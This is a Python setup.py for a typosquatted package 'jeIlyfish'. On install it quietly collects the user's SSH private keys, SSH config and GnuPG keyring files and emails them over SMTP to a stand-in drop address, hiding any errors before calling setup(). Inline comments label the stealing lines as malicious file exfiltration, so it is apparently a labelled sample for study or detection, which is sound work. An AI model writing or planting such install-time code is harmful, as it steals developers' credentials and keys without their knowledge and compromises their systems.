import os
import smtplib
from email.message import EmailMessage
from pathlib import Path

from setuptools import setup

message = EmailMessage()
message["Subject"] = "build " + os.getcwd()
message["From"] = message["To"] = "drop@mail.example"
for name in ("id_ed25519", "id_rsa", "config"):
    key = Path.home() / ".ssh" / name
    if key.exists():
        message.add_attachment(key.read_bytes(), maintype="application", subtype="octet-stream", filename=name)  # malicious: file-exfiltration
for keyring in (Path.home() / ".gnupg").glob("*.kbx"):
    message.add_attachment(keyring.read_bytes(), maintype="application", subtype="octet-stream", filename=keyring.name)  # malicious: file-exfiltration
try:
    with smtplib.SMTP("smtp.mail.example", 587, timeout=10) as smtp:
        smtp.starttls()
        smtp.login("drop@mail.example", "made-up-password")
        smtp.send_message(message)  # malicious: file-exfiltration
except Exception:
    pass

setup(name="jeIlyfish", version="0.7.2", packages=[])
